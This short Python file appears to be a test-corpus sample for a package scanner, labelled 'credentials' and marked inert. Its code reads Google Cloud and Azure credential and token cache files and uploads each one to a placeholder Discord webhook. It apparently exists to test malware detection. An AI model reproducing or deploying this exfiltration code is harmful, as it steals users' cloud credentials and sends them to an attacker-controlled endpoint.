# pkgguard corpus 071 (credentials), modelled on [taxonomy]; inert, never run.
import os
import requests

paths = [
    "~/.config/gcloud/application_default_credentials.json",
    "~/.azure/accessTokens.json",
    "~/.azure/msal_token_cache.json",
]
for p in paths:
    p = os.path.expanduser(p)
    if os.path.exists(p):
        requests.post("https://discord.com/api/webhooks/1000000000000000000/placeholder-token-0000000000000000", files={"f": open(p, "rb")})
